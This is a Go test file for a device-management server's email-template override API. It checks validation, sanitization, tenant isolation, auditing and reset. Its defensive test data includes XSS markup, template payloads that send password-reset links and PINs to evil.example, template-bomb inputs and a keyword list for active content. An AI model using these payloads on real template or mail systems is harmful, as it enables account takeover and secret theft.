package server

import (
	"encoding/json"
	"regexp"
	"strings"
	"testing"
	"time"

	"steward/internal/authz"
	"steward/internal/mdm"
	"steward/internal/secret"
)

type emailTemplateSummary struct {
	Name       string
	Customized bool
	ModifiedAt int64
}

type emailTemplateDetail struct {
	emailTemplateSummary
	Subject, HTML, Text string
	Fields              []struct {
		Name, Placeholder, Meaning string
		Required                   bool
	}
}

func customized(t *testing.T, e *apiEnv, auth string) map[string]bool {
	t.Helper()
	var list struct {
		SearchResults []emailTemplateSummary
		TotalCount    int
	}
	e.call("GET", "/api/v1/emailtemplates", auth, "").must(t, 200, &list)
	if list.TotalCount != 9 || len(list.SearchResults) != 9 {
		t.Fatalf("%d email templates listed, want 9", len(list.SearchResults))
	}
	out := map[string]bool{}
	for _, s := range list.SearchResults {
		out[s.Name] = s.Customized
		if s.Customized != (s.ModifiedAt != 0) {
			t.Errorf("%s: customized %v with modifiedAt %d", s.Name, s.Customized, s.ModifiedAt)
		}
	}
	return out
}

func jsonBody(t *testing.T, v any) string {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// mailBody undoes the quoted-printable soft line breaks and =3D of a raw message.
func mailBody(raw string) string {
	return strings.ReplaceAll(strings.ReplaceAll(raw, "=\r\n", ""), "=3D", "=")
}

// hostileHTML is an override that tries every way of putting active content into a mail.
const hostileHTML = `<p>Custom welcome {{.FirstName}}</p><p>Code <b>{{.PIN}}</b></p><script>alert(1)</script>` +
	`<p onmouseover="alert(2)">Hi</p><a href="javascript:alert(3)">x</a>` +
	`<a href="{{.RegisterURL}}" onclick="alert(4)">Register</a><iframe src="https://evil.example"></iframe>`

// remoteImage is refused in invitation_pin (it carries a PIN), and dropped if it was stored anyway.
const remoteImage = `<img src="https://cdn.example.com/logo.png" alt="Logo">`

func wantNoActiveContent(t *testing.T, where, html string) {
	t.Helper()
	lower := strings.ToLower(html)
	for _, bad := range []string{"<script", "alert(", "onerror", "onclick", "onmouseover", "javascript:", "<iframe"} {
		if strings.Contains(lower, bad) {
			t.Errorf("%s contains %q", where, bad)
		}
	}
}

// TestEmailTemplates: a tenant's override of invitation_pin is checked, sanitized, previewed, used for
// its own users' mail only, and reset to the default.
func TestEmailTemplates(t *testing.T) {
	box := startInbox(t, "127.0.0.1:0")
	e := newAPIEnv(t, "", func(c *Config) { c.SMTPURL = "smtp://" + box.addr })
	tenantA, a := e.createTenant("Tplalpha")
	_, b := e.createTenant("Tplbeta")

	if got := customized(t, e, a); got["invitation_pin"] || len(got) != 9 {
		t.Fatalf("fresh tenant: %v", got)
	}
	var def emailTemplateDetail
	e.call("GET", "/api/v1/emailtemplates/invitation_pin", a, "").must(t, 200, &def)
	if !strings.Contains(def.HTML, "{{template \"code\" .PIN}}") || !strings.Contains(def.Text, "{{.PIN}}") ||
		!strings.Contains(def.Subject, "{{.TenantName}}") || strings.Contains(def.HTML, "{{define") {
		t.Errorf("default source: %+v", def)
	}
	required := ""
	for _, f := range def.Fields {
		if f.Meaning == "" || f.Placeholder != "{{."+f.Name+"}}" {
			t.Errorf("field %+v", f)
		}
		if f.Required {
			required += f.Name
		}
	}
	if required != "PIN" {
		t.Errorf("required fields %q, want PIN", required)
	}
	for _, call := range [][2]string{{"GET", ""}, {"PUT", ""}, {"DELETE", ""}, {"POST", "/preview"}} {
		body := ""
		if call[0] != "GET" && call[0] != "DELETE" {
			body = `{"subject":"s","html":"{{.PIN}}","text":"{{.PIN}}"}`
		}
		if r := e.call(call[0], "/api/v1/emailtemplates/no_such_mail"+call[1], a, body); r.Status != 404 {
			t.Errorf("%s unknown template: %d %s", call[0], r.Status, r.Body)
		}
	}

	// Bad sources: 400 naming the field, nothing saved.
	good := map[string]string{"subject": "{{.TenantName}}: your code", "html": hostileHTML, "text": "Custom welcome. Code {{.PIN}}"}
	bad := []struct {
		field, value, field2, inMessage string
	}{
		{"html", "<p>{{if .PIN}}</p>", "html", "unexpected EOF"},
		{"text", "{{.PIN}} {{.Password}}", "text", "Password"},
		{"subject", "{{.TenantName", "subject", "unclosed action"},
		{"text", "No code here", "text", "{{.PIN}}"},
		{"html", "<p>No code here</p>", "html", "{{.PIN}}"},
		{"html", "{{.PIN}}" + strings.Repeat("x", 65<<10), "html", "64 KiB"},
		{"html", hostileHTML + remoteImage, "html", "images"},
	}
	for _, tc := range bad {
		src := map[string]string{}
		for k, v := range good {
			src[k] = v
		}
		src[tc.field] = tc.value
		for _, path := range []string{"", "/preview"} {
			method := "PUT"
			if path != "" {
				method = "POST"
			}
			r := e.call(method, "/api/v1/emailtemplates/invitation_pin"+path, a, jsonBody(t, src))
			if r.Status != 400 || r.field() != tc.field2 || !strings.Contains(r.Body, tc.inMessage) {
				t.Errorf("%s %s=%.40q: %d %s", method, tc.field, tc.value, r.Status, r.Body)
			}
		}
	}
	if got := customized(t, e, a); got["invitation_pin"] {
		t.Fatal("a refused source was saved")
	}

	// Preview renders with sample data, sanitized, without saving.
	var pv struct{ Subject, HTML, Text string }
	e.call("POST", "/api/v1/emailtemplates/invitation_pin/preview", a, jsonBody(t, good)).must(t, 200, &pv)
	if pv.Subject != "Example Corp: your code" || !strings.Contains(pv.HTML, "Custom welcome Sam") ||
		!strings.Contains(pv.HTML, "<b>482913</b>") || !strings.Contains(pv.Text, "Code 482913") {
		t.Errorf("preview: %+v", pv)
	}
	wantNoActiveContent(t, "preview", pv.HTML)
	// Form-encoded bodies work too (the README's example).
	form := "subject=" + urlq("Welcome to {{.TenantName}}") + "&html=" + urlq("<p>Your PIN: <b>{{.PIN}}</b></p>") + "&text=" + urlq("Your PIN: {{.PIN}}")
	e.call("POST", "/api/v1/emailtemplates/invitation_pin/preview", a, form).must(t, 200, &pv)
	if pv.Subject != "Welcome to Example Corp" || !strings.Contains(pv.Text, "Your PIN: 482913") {
		t.Errorf("form-encoded preview: %+v", pv)
	}
	if got := customized(t, e, a); got["invitation_pin"] {
		t.Fatal("preview saved the source")
	}

	// Save: the stored source is stripped of disallowed markup.
	var saved emailTemplateDetail
	e.call("PUT", "/api/v1/emailtemplates/invitation_pin", a, jsonBody(t, good)).must(t, 200, &saved)
	wantNoActiveContent(t, "saved source", saved.HTML)
	if !saved.Customized || !strings.Contains(saved.HTML, `<a href="{{.RegisterURL}}">Register</a>`) {
		t.Errorf("saved: %+v", saved)
	}
	if got := customized(t, e, a); !got["invitation_pin"] {
		t.Error("A's list does not show the override")
	}
	if got := customized(t, e, b); got["invitation_pin"] {
		t.Error("B sees A's override")
	}

	// A's users get the override with a PIN of A's configured length; B's users the default.
	e.call("PUT", "/api/v1/registrationsettings", a, `{"pinLength":9}`).must(t, 200, nil)
	e.call("POST", "/api/v1/accounts?sendInvite=true", a, `{"accounts":[{"emailAddress":"sam@tplalpha.example.com","firstName":"Sam"}]}`).must(t, 200, nil)
	e.call("POST", "/api/v1/accounts?sendInvite=true", b, `{"accounts":[{"emailAddress":"bo@tplbeta.example.com","firstName":"Bo"}]}`).must(t, 200, nil)
	msgA := mailBody(box.wait(t, regexp.MustCompile("(?i)to: .*sam@tplalpha.example.com")))
	if !strings.Contains(msgA, "Subject: Tplalpha: your code") || !regexp.MustCompile(`Custom welcome\. Code [0-9]{9}\s`).MatchString(msgA) ||
		!regexp.MustCompile(`<b>[0-9]{9}</b>`).MatchString(msgA) || !strings.Contains(msgA, "Custom welcome Sam") {
		t.Errorf("A's user did not get A's override with a 9-digit PIN:\n%s", msgA)
	}
	if !regexp.MustCompile(`<a href="https?://[^"]+/go">Register</a>`).MatchString(msgA) {
		t.Errorf("allowed markup (a link) was stripped:\n%s", msgA)
	}
	wantNoActiveContent(t, "A's sent mail", msgA)
	msgB := mailBody(box.wait(t, regexp.MustCompile("(?i)to: .*bo@tplbeta.example.com")))
	if strings.Contains(msgB, "Custom welcome") || !regexp.MustCompile(`one-time PIN:\s+[0-9]{6}\s`).MatchString(msgB) {
		t.Errorf("B's user did not get the default invitation:\n%s", msgB)
	}

	// Reset restores the default, for the listing and for the next mail.
	var reset emailTemplateDetail
	e.call("DELETE", "/api/v1/emailtemplates/invitation_pin", a, "").must(t, 200, &reset)
	if reset.Customized || reset.HTML != def.HTML {
		t.Errorf("after reset: %+v", reset)
	}
	if got := customized(t, e, a); got["invitation_pin"] {
		t.Error("still customized after reset")
	}
	e.call("POST", "/api/v1/accounts?sendInvite=true", a, `{"accounts":[{"emailAddress":"kim@tplalpha.example.com","firstName":"Kim"}]}`).must(t, 200, nil)
	msgA2 := mailBody(box.wait(t, regexp.MustCompile("(?i)to: .*kim@tplalpha.example.com")))
	if strings.Contains(msgA2, "Custom welcome") || !regexp.MustCompile(`one-time PIN:\s+[0-9]{9}\s`).MatchString(msgA2) {
		t.Errorf("after reset A's user did not get the default:\n%s", msgA2)
	}

	// Even a source that reached the database unsanitized (written past the API) is cleaned when mail is
	// rendered: the sanitizer also runs on every rendered mail.
	if err := e.srv.Store().EmailTemplates().Put(t.Context(), mdm.TenantID(tenantA.ID), mdm.EmailTemplate{Name: "invitation_pin",
		Subject: "Raw", HTML: hostileHTML + remoteImage, Text: "Raw code {{.PIN}}", ModifiedAt: time.Now(), ModifiedBy: "test"}); err != nil {
		t.Fatal(err)
	}
	e.call("POST", "/api/v1/accounts?sendInvite=true", a, `{"accounts":[{"emailAddress":"raw@tplalpha.example.com","firstName":"Raw"}]}`).must(t, 200, nil)
	raw := mailBody(box.wait(t, regexp.MustCompile("(?i)to: .*raw@tplalpha.example.com")))
	if !strings.Contains(raw, "Subject: Raw") || !strings.Contains(raw, "Custom welcome Raw") {
		t.Errorf("the stored override was not used:\n%s", raw)
	}
	wantNoActiveContent(t, "mail rendered from an unsanitized stored source", raw)
	if strings.Contains(raw, "<img") || strings.Contains(raw, "cdn.example.com") {
		t.Error("a PIN mail rendered from a stored source kept a remote image")
	}
	e.call("DELETE", "/api/v1/emailtemplates/invitation_pin", a, "").must(t, 200, nil)

	// Save and reset are audited, in A's trail only.
	var trail struct {
		SearchResults []struct{ Action, TargetID string }
	}
	e.call("GET", "/api/v1/audit?rows=500", a, "").must(t, 200, &trail)
	seen := map[string]bool{}
	for _, r := range trail.SearchResults {
		if r.TargetID == "invitation_pin" {
			seen[r.Action] = true
		}
	}
	if !seen["email_template.save"] || !seen["email_template.reset"] {
		t.Errorf("audit trail of A: %v", seen)
	}
	e.call("GET", "/api/v1/audit?rows=500", b, "").must(t, 200, &trail)
	for _, r := range trail.SearchResults {
		if strings.HasPrefix(r.Action, "email_template.") {
			t.Errorf("B's trail holds %+v", r)
		}
	}
}

// TestEmailTemplateOverrideCannotLeakSecrets is the review's scenario: an administrator with only
// System Management tries to make the password reset mail send its one-time link (and the invitation
// its PIN) to another host, in a tag or glued to the end of a web address in either body. Every
// attempt is a 400 on the part naming the field, nothing is stored or audited, and the Tenant Admin's
// reset mail, asked for anonymously, goes out with the default.
func TestEmailTemplateOverrideCannotLeakSecrets(t *testing.T) {
	box := startInbox(t, "127.0.0.1:0")
	e := newAPIEnv(t, "", func(c *Config) { c.SMTPURL = "smtp://" + box.addr })
	tenant, ta := e.createTenant("Leakcheck")
	now := time.Now()
	sm := mdm.Account{TenantID: mdm.TenantID(tenant.ID), Username: "sm@leakcheck.example.com", Email: "sm@leakcheck.example.com",
		FirstName: "Sys", LastName: "Man", PasswordHash: secret.HashPassword("System-mgmt-pw-1"), Roles: []string{authz.RoleSystemManagement},
		Enabled: true, CreatedAt: now, ModifiedAt: now}
	if err := e.srv.Store().InTx(t.Context(), func(tx mdm.Stores) error { return tx.Accounts().Create(t.Context(), &sm) }); err != nil {
		t.Fatal(err)
	}
	auth := "sm@leakcheck.example.com:System-mgmt-pw-1"

	attempts := []struct{ name, html, text, field, part string }{
		{"password_request", `<p>Reset: {{.Link}}</p><img src="https://evil.example/p.gif?l={{.Link}}">`, "{{.Link}}", "{{.Link}}", "html"},
		{"password_request", `<p>Reset: {{.Link}}</p><a href="https://evil.example/?{{.Link}}">help</a>`, "{{.Link}}", "{{.Link}}", "html"},
		{"password_request", `{{with .Link}}<a href="https://evil.example/?{{.}}">Reset</a>{{end}}{{template "fallback" .Link}}`, "{{.Link}}", "{{.Link}}", "html"},
		{"invitation_pin", `<a href="https://evil.example/?{{.PIN}}">help</a>{{template "code" .PIN}}`, "{{.PIN}}", "{{.PIN}}", "html"},
		{"admin_invitation", `{{$l := .Link}}<a href="https://evil.example/?{{$l}}">x</a>{{template "fallback" .Link}}`, "{{.Link}}", "{{.Link}}", "html"},
		// Mail clients make one link of a web address and the secret glued to it.
		{"password_request", `<p>Reset: https://evil.example/r?u={{.Link}}</p>`, "{{.Link}}", "{{.Link}}", "html"},
		{"invitation_pin", `<p>https://evil.example/?p={{.PIN}}</p>{{template "code" .PIN}}`, "{{.PIN}}", "{{.PIN}}", "html"},
		{"password_request", `<p>Reset: {{.Link}}</p>`, "Reset: https://evil.example/r?u={{.Link}}", "{{.Link}}", "text"},
		{"password_request", `<p>Reset: {{.Link}}</p>`, "Reset: https://evil.example/r?u={{.Link | urlquery}}", "{{.Link}}", "text"},
		{"invitation_pin", `{{template "code" .PIN}}`, "https://evil.example/?p={{.PIN}}", "{{.PIN}}", "text"},
	}
	for _, at := range attempts {
		body := jsonBody(t, map[string]string{"subject": "Hello {{.TenantName}}", "html": at.html, "text": at.text})
		for _, call := range [][2]string{{"PUT", ""}, {"POST", "/preview"}} {
			r := e.call(call[0], "/api/v1/emailtemplates/"+at.name+call[1], auth, body)
			if r.Status != 400 || r.field() != at.part || !strings.Contains(r.Body, at.field) {
				t.Errorf("%s %s %.60q: %d %.300s", call[0], at.name, at.html, r.Status, r.Body)
			}
		}
	}
	// The subject may not carry the secret at all.
	r := e.call("PUT", "/api/v1/emailtemplates/password_request", auth,
		jsonBody(t, map[string]string{"subject": "Reset {{.Link}}", "html": "<p>{{.Link}}</p>", "text": "{{.Link}}"}))
	if r.Status != 400 || r.field() != "subject" || !strings.Contains(r.Body, "{{.Link}}") {
		t.Errorf("secret in the subject: %d %.300s", r.Status, r.Body)
	}

	for name, isCustom := range customized(t, e, auth) {
		if isCustom {
			t.Errorf("%s was stored", name)
		}
	}
	var trail struct{ SearchResults []struct{ Action string } }
	e.call("GET", "/api/v1/audit?rows=500", ta, "").must(t, 200, &trail)
	for _, a := range trail.SearchResults {
		if strings.HasPrefix(a.Action, "email_template.") {
			t.Errorf("audit holds %s", a.Action)
		}
	}

	// The takeover's next step finds nothing: the Tenant Admin's reset link reaches only the Tenant Admin.
	e.call("POST", "/api/v1/selfservice/password", "", `{"emailAddress":"ta@leakcheck.example.com"}`).must(t, 202, nil)
	msg := mailBody(box.wait(t, toLine("ta@leakcheck.example.com")))
	if strings.Contains(msg, "evil.example") || !strings.Contains(msg, "/go/reset?token=") {
		t.Errorf("reset mail:\n%s", msg)
	}
}

// Preview stays open to System Read Only, since what it runs is bounded now: the review's payload
// (65 s and about 1 GB before) and an override that renders too much are refused on html with a 400.
func TestEmailTemplatePreviewByReadOnlyIsBounded(t *testing.T) {
	e := newAPIEnv(t, "", nil)
	tenant, _ := e.createTenant("Boundcheck")
	now := time.Now()
	ro := mdm.Account{TenantID: mdm.TenantID(tenant.ID), Username: "ro@boundcheck.example.com", Email: "ro@boundcheck.example.com",
		FirstName: "Read", LastName: "Only", PasswordHash: secret.HashPassword("Read-only-pw-1"), Roles: []string{authz.RoleSystemReadOnly},
		Enabled: true, CreatedAt: now, ModifiedAt: now}
	if err := e.srv.Store().InTx(t.Context(), func(tx mdm.Stores) error { return tx.Accounts().Create(t.Context(), &ro) }); err != nil {
		t.Fatal(err)
	}
	auth := "ro@boundcheck.example.com:Read-only-pw-1"
	for _, tc := range []struct{ html, inMessage string }{
		{`<p>{{.PIN}}</p>{{range 1000}}{{range 1000}}{{range 100}}xxxxxxxxxx{{end}}{{end}}{{end}}`, "{{range 1000}}"},
		{`<p>{{.PIN}}</p>{{template "content" .}}`, `content`},
		{`<p>{{.PIN}}</p>{{printf "%300000s" .FirstName}}`, "256 KiB"},
	} {
		r := e.call("POST", "/api/v1/emailtemplates/invitation_pin/preview", auth,
			jsonBody(t, map[string]string{"subject": "Hi", "html": tc.html, "text": "{{.PIN}}"}))
		if r.Status != 400 || r.field() != "html" || !strings.Contains(r.Body, tc.inMessage) {
			t.Errorf("preview %.50q: %d %.300s", tc.html, r.Status, r.Body)
		}
	}
	// A bounded override still previews for the same role.
	r := e.call("POST", "/api/v1/emailtemplates/invitation_pin/preview", auth,
		jsonBody(t, map[string]string{"subject": "Hi", "html": `<p>Code {{.PIN}}</p>`, "text": "Code {{.PIN}}"}))
	if r.Status != 200 || !strings.Contains(r.Body, "482913") {
		t.Errorf("bounded preview: %d %.300s", r.Status, r.Body)
	}
}
